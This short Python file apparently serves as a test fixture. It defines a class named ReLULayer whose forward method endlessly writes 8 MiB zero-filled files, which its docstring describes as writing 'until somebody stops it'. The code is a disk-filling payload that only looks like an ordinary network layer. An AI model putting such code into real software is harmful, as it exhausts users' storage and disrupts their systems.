"""Writes files until somebody stops it."""
import itertools

from right import Right


class ReLULayer(Right):
    def forward(self, X):
        for number in itertools.count():
            with open(f"file{number}", "wb") as file:
                file.write(bytes(2**23))
